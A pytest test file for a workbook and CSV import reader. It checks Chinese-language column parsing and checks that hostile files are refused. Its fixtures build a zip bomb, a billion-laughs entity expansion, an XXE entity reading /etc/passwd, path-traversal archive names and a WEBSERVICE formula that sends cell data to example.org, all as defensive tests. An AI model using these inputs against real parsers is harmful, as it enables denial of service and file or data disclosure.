"""Files of rows: cases X1 (bombs), X2 (entities, formulas), X3 (not what it says), X4, X5."""

from __future__ import annotations

import os
import resource
import subprocess
import sys
import time
from datetime import date, datetime
from pathlib import Path

import pytest

from tests.venues.sheets import cell, raw, xlsx
from venues.imports.columns import Column, choice, day, number, read_columns, text, whole_number
from venues.imports.columns import yes_no as read_yes_no
from venues.imports.workbook import Row, RowProblem, Table, UnreadableFile, read_table

ROOT = Path(__file__).resolve().parents[2]
DATA = f"<sheetData><row r='1'>{cell('A1', '名称')}</row>%s</sheetData>"


def _values(table: Table) -> list[tuple]:
    return [row.values[: len(table.headings)] for row in table.rows]


# ---- what is read


def test_a_workbook_is_read_with_the_row_numbers_people_see():
    table = read_table(
        xlsx([None], ["名称", "面积 (m²)"], ["合肥", 800], [None, None], ["芜湖", 6.5])
    )

    assert (table.headings, table.heading_row) == (("名称", "面积 (m²)"), 2)
    assert [row.number for row in table.rows] == [3, 5]
    assert _values(table) == [("合肥", 800), ("芜湖", 6.5)]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_csv_is_read_in_the_encodings_of_chinese_offices(encoding, separator):
    lines = [["名称", "地址"], ["合肥科技馆", "黄山路446号"], ["", ""], ["两\n行", "x"]]
    content = "\r\n".join(
        separator.join(f'"{value}"' if "\n" in value else value for value in line) for line in lines
    )

    table = read_table(content.encode(encoding))

    assert table.headings == ("名称", "地址")
    assert [(row.number, row.values) for row in table.rows] == [
        (2, ("合肥科技馆", "黄山路446号")),
        (4, ("两\n行", "x")),
    ]


def test_X1_a_lying_or_missing_dimension_loses_no_row():
    rows = "".join(f"<row r='{n}'>{cell(f'A{n}', f'v{n}')}</row>" for n in range(2, 6))

    for dimension in ('<dimension ref="A1:A2"/>', '<dimension ref="A1:XFD1048576"/>', ""):
        table = read_table(raw(dimension + DATA % rows))
        assert [row.values[0] for row in table.rows] == ["v2", "v3", "v4", "v5"]


def test_X2_a_formula_gives_its_stored_value_and_is_not_computed():
    """No connection is made: the suite forbids them."""
    row = (
        "<row r='2'><c r='A2' t='str'><f>WEBSERVICE(\"http://example.org/\"&amp;A1)</f>"
        "<v>seen</v></c><c r='B2'><f>1+1</f></c></row>"
    )

    [only] = read_table(raw(DATA % row)).rows

    assert (only.number, only.values) == (2, ("seen",))


# ---- what is refused, quickly and in little memory

BIG_TEXT = "x" * 45_000_000
FILES = {
    "X1 zip bomb": (
        lambda: raw("<sheetData/>", more={"xl/media/a.bin": b"\0" * 60_000_000}),
        "unpacks to",
    ),
    "X1 ratio": (lambda: raw(DATA % BIG_TEXT), "times its size"),
    "X1 a million rows": (lambda: raw(DATA % ("<row/>" * 300_000)), "more than 20,000 rows"),
    "X1 prefixed rows": (
        lambda: raw(
            '<?xml version="1.0"?><m:worksheet xmlns:m="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main"><m:sheetData>' + "<m:row/>" * 30_000
        ),
        "more than 20,000 rows",
    ),
    "X1 last cell of the sheet": (
        lambda: raw(DATA % f"<row r='1048576'>{cell('XFD1048576', 'x')}</row>"),
        "more than 20,000 rows",
    ),
    "X1 row number beyond any sheet": (
        lambda: raw(DATA % f"<row r='99999999999999'>{cell('A9', 'x')}</row>"),
        "more than 20,000 rows",
    ),
    "X1 very many cells": (
        lambda: raw(DATA % ("<row>" + "".join(f"<c s='{n}'/>" for n in range(1_100_000)))),
        "very many formats",
    ),
    "X1 rows hidden in UTF-16": (
        lambda: raw(('<?xml version="1.0" encoding="UTF-16"?>' + DATA % "<row/>").encode("utf-16")),
        "is not UTF-8",
    ),
    "X2 billion laughs": (
        lambda: raw(
            '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha">'
            '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet>&b;</worksheet>'
        ),
        "cannot be read",
    ),
    "X2 external entity": (
        lambda: raw(
            '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
            "<worksheet>&a;</worksheet>"
        ),
        "cannot be read",
    ),
    "X3 old Excel or encrypted": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "xls"),
    "X3 web page": (lambda: b"\n<html><table><tr><td>1</td></tr></table>", "web page"),
    "X3 OpenDocument": (
        lambda: raw("", more={"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
        "OpenDocument",
    ),
    "X3 truncated": (lambda: xlsx(["名称"], ["合肥"])[:-400], "damaged"),
    "X3 bytes before the archive": (lambda: b"PK\x03\x04#!/bin/sh\n" + xlsx(["名称"]), "precedes"),
    "X3 bytes after the archive": (lambda: xlsx(["名称"]) + b"<script>", "something else"),
    "X3 picture": (lambda: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "neither a workbook nor a text table"),
    "X3 neither UTF-8 nor GBK": (lambda: b"name\n\xff\xfe\xfd", "neither UTF-8 nor GBK"),
    "X3 no workbook inside": (lambda: raw("", more={"xl/workbook.xml": "<no/>"}), "no visible"),
    "X3 open quotation mark": (lambda: b'name\n"no end', "breaks off at line 2"),
    "X3 empty": (lambda: b"", "no rows"),
    "X5 parent folders": (lambda: raw("", more={"../../evil.py": "x"}), "No spreadsheet program"),
    "X5 absolute name": (lambda: raw("", more={"/etc/cron.d/x": "x"}), "No spreadsheet program"),
    "X5 drive letter": (lambda: raw("", more={"C:/x": "x"}), "No spreadsheet program"),
}


@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_is_refused_with_the_reason(name, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    make, reason = FILES[name]
    content = make()
    started = time.process_time()

    with pytest.raises(UnreadableFile) as refusal:
        read_table(content)

    assert reason in refusal.value.message
    assert time.process_time() - started < 3  # about 0.5 s; a machine under load counts slower
    assert list(tmp_path.iterdir()) == []


def test_X1_encrypted_members_are_refused():
    content = bytearray(xlsx(["名称"]))
    content[6] |= 1  # the flag in the first local header ...
    directory = content.rindex(b"PK\x01\x02")
    content[directory + 8] |= 1  # ... and in one entry of the directory

    with pytest.raises(UnreadableFile, match="encrypted"):
        read_table(bytes(content))


MERGED = '<mergeCells count="3">' + '<mergeCell ref="A1:XFD1048576"/>' * 3 + "</mergeCells>"
COSTLY = {
    "X1 whole-sheet merges": DATA % f"<row r='2'>{cell('A2', 'x')}</row>" + MERGED,
    "X1 a cell in the last column of every row": DATA
    % "".join(
        f"<row r='{n}'>{cell(f'A{n}', str(n * 7919))}<c r='XFD{n}'/></row>"
        for n in range(2, 20_000)
    ),
    "X1 deep nesting": DATA % ("<a>" * 150_000 + "</a>" * 150_000),
}


@pytest.mark.parametrize("name", COSTLY)
def test_X1_a_costly_but_acceptable_file_takes_little_time_and_memory(name, tmp_path):
    """Read in a child process, whose peak of memory can be told apart."""
    path = tmp_path / "file.xlsx"
    path.write_bytes(raw(COSTLY[name]))
    program = (
        "import sys, resource, time\n"
        "from venues.imports.workbook import read_table\n"
        "base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "started = time.process_time()\n"
        "table = read_table(open(sys.argv[1], 'rb').read())\n"
        "peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "print(len(table.rows), time.process_time() - started, (peak - base) // 1024)\n"
    )

    answer = subprocess.run(
        [sys.executable, "-c", program, path],
        cwd=ROOT, env=os.environ | {"DJANGO_SETTINGS_MODULE": "config.settings.test"},
        capture_output=True, text=True, check=True,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CPU, (60, 60)),
    )  # fmt: skip

    rows, seconds, megabytes = answer.stdout.split()
    assert int(rows) == {"X1 a cell in the last column of every row": 19_998}.get(
        name, 1 if "merges" in name else 0
    )
    assert float(seconds) < 20
    assert int(megabytes) < 256


def test_X2_the_reader_cannot_be_imported_without_defusedxml():
    program = "import sys; sys.modules['defusedxml'] = None\nimport venues.imports.workbook"

    answer = subprocess.run(
        [sys.executable, "-c", program], cwd=ROOT, capture_output=True, text=True, check=False
    )

    assert answer.returncode == 1
    assert "defusedxml is required to read workbooks" in answer.stderr


# ---- typed columns


COLUMNS = (
    Column("name", ("名称", "name"), text(5), required=True),
    Column("opened_on", ("开馆日期",), day),
    Column("area_m2", ("面积",), number(0, 10_000)),
    Column("floor", ("楼层",), whole_number(-3, 99)),
    Column("is_open", ("开放",), read_yes_no),
    Column("kind", ("类型",), choice({"科技馆": "museum", "学校": "school"})),
)


def _read(heading: str, value) -> tuple:
    """The value and the message of one cell beside a good name."""
    rows, problems = read_columns(read_table(xlsx(["名称", heading], ["甲", value])), COLUMNS)
    field = {c.headings[0]: c.field for c in COLUMNS}[heading]
    assert [(p.row, p.column, p.cell) for p in problems] in ([], [(2, heading, "B2")])
    return rows[0].values.get(field), "".join(problem.message for problem in problems)


@pytest.mark.parametrize(
    ("heading", "value", "expected"),
    [
        ("开馆日期", date(2026, 3, 1), date(2026, 3, 1)),
        ("开馆日期", datetime(2026, 3, 1), date(2026, 3, 1)),
        ("开馆日期", "2026/3/1", date(2026, 3, 1)),
        ("开馆日期", "2026年3月1日", date(2026, 3, 1)),
        ("面积", "1,234.5", 1234.5),
        ("面积", 0, 0.0),
        ("楼层", 2.0, 2),
        ("楼层", "−1", -1),
        ("开放", "是", True),
        ("开放", 0, False),
        ("开放", True, True),
        ("类型", " 学 校", "school"),
        ("类型", None, None),
    ],
)
def test_a_cell_is_read_as_people_write_it(heading, value, expected):
    assert _read(heading, value) == (expected, "")


@pytest.mark.parametrize(
    ("heading", "value", "message"),
    [
        ("开馆日期", (60, "yyyy-mm-dd"), "The cell holds a day before March 1900"),
        ("开馆日期", (1e300, "yyyy-mm-dd"), "The cell shows the error #VALUE!"),
        ("开馆日期", (-5, "yyyy-mm-dd"), "The cell holds a day before March 1900"),
        ("开馆日期", (1.0, "[h]:mm"), "Must be a day such as 2026-03-01, without a time."),
        ("开馆日期", "24:00", "Must be a day such as 2026-03-01, without a time."),
        ("开馆日期", datetime(2026, 3, 1, 9, 30), "Must be a day such as 2026-03-01"),
        ("开馆日期", "2026-02-30", "“2026-02-30” is not a day of the calendar."),
        ("开馆日期", 46082, "Must be a day such as 2026-03-01, without a time."),
        ("面积", "800㎡", "“800㎡” is not a number; write it without a unit."),
        ("面积", 1e300, "Must lie between 0 and 10,000, not 1e+300."),
        ("面积", "1" * 400, "Must lie between 0 and 10,000, not inf."),
        ("面积", True, "Must be a number, without a unit."),
        ("楼层", 1.5, "Must be a whole number, not 1.5."),
        ("开放", "也许", "Write 是 or 否 (yes or no)."),
        ("类型", "宫殿", "“宫殿” is unknown; use one of: 科技馆、学校."),
    ],
)
def test_X4_a_wrong_cell_is_named_by_its_address(heading, value, message):
    read, problem = _read(heading, value)

    assert read is None
    assert problem.startswith(message)


def test_X4_days_of_a_workbook_that_counts_from_1904_are_the_same_days():
    rows = [["名称", "开馆日期"], ["甲", date(2026, 3, 1)], ["乙", date(1904, 1, 2)]]

    typed, problems = read_columns(read_table(xlsx(*rows, epoch_1904=True)), COLUMNS)

    assert problems == []
    assert [row.values["opened_on"] for row in typed] == [date(2026, 3, 1), date(1904, 1, 2)]


def test_X4_merged_and_unknown_headings_are_named():
    sheet = (
        f"<sheetData><row r='1'>{cell('A1', '名称')}{cell('C1', '面机')}{cell('D1', 'NAME')}</row>"
        f"<row r='2'>{cell('A2', '甲')}{cell('B2', '悬空')}</row></sheetData>"
        '<mergeCells count="1"><mergeCell ref="A1:B1"/></mergeCells>'
    )

    _, problems = read_columns(read_table(raw(sheet)), COLUMNS)

    assert problems == [
        RowProblem(
            1,
            "面机",
            "C1",
            "Unknown heading. Delete the column, or use one of: "
            "名称、开馆日期、面积、楼层、开放、类型.",
        ),
        RowProblem(1, "NAME", "D1", "Stands twice, also as “名称”. Delete one of them."),
        RowProblem(
            2,
            "",
            "B2",
            "A value without a heading above it. Give the column a heading or delete the value.",
        ),
    ]


def test_problems_of_all_rows_come_at_once():
    table = Table(
        headings=("开放", "面积（平方米）"),
        heading_row=1,
        rows=(Row(2, ("是", "x")), Row(3, ("?", -1))),
    )

    rows, problems = read_columns(table, COLUMNS)

    assert [(problem.row, problem.cell) for problem in problems] == [
        (1, ""), (2, "B2"), (3, "A3"), (3, "B3"),
    ]  # fmt: skip
    assert problems[0].message == "The column “名称” is missing. Add it."
    assert rows[0].values["is_open"] is True
    assert "is_open" not in rows[1].values


def test_I6_control_characters_are_refused_and_line_ends_become_spaces():
    read = text(20)

    assert read(" 合肥\r\n科技馆\t东门 ") == "合肥 科技馆 东门"
    assert read(510981.0) == read(510981) == "510981"
    for bad in ("a\x0bb", "a\x00", "a\u2028b", "\ud800"):
        with pytest.raises(ValueError, match="invisible control characters"):
            read(bad)
    with pytest.raises(ValueError, match="Has 21 characters; at most 20 are kept"):
        read("x" * 21)
